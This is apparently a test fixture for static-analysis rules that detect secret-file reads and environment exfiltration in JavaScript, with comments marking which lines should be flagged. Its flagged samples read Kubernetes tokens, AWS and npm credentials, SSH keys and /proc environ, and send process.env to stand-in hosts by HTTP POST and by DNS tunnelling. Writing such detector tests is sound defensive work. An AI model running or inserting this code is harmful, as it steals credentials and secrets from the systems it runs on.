const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const dns = require("dns");

function steal() {
  // ruleid: js-secret-path
  const token = fs.readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8");
  // ruleid: js-secret-path
  const aws = fs.readFileSync(path.join(os.homedir(), ".aws", "credentials"));
  // ruleid: js-secret-path
  const npmrc = fs.readFileSync(`${os.homedir()}/.npmrc`, "utf8");
  // ruleid: js-secret-path
  const ssh = fs.readFileSync(os.homedir() + "/.ssh/id_ed25519");
  // ruleid: js-secret-path
  const env1 = fs.readFileSync("/proc/1/environ");
  return [token, aws, npmrc, ssh, env1];
}

async function exfil() {
  // ruleid: js-env-exfiltration, js-env-dump
  await fetch("https://collect.example/x", { method: "POST", body: JSON.stringify(process.env) });
  // ruleid: js-env-dump
  const data = Buffer.from(JSON.stringify(process.env)).toString("hex");
  // ruleid: js-env-exfiltration
  dns.lookup(`${data.slice(0, 60)}.exfil.example`, () => {});
}

function dump(res) {
  // ruleid: js-env-dump
  return Object.entries(process.env).map(([k, v]) => `${k}=${v}`);
}

function benign(event) {
  // ok: js-env-exfiltration, js-env-dump, js-secret-path
  const key = process.env.API_KEY;
  // ok: js-env-exfiltration
  const region = process.env["AWS_REGION"] || "eu-west-1";
  // ok: js-env-exfiltration, js-env-dump
  const child = require("child_process").spawn("convert", ["a.png"], { env: { ...process.env, LC_ALL: "C" } });
  // ok: js-env-exfiltration
  const req = https.request("https://api.example.com/v1/items", { headers: { authorization: `Bearer ${key}` } });
  req.end(JSON.stringify(event));
  // ok: js-secret-path
  const cfg = fs.readFileSync(path.join(__dirname, "config", "settings.json"));
  return { region, cfg, child };
}
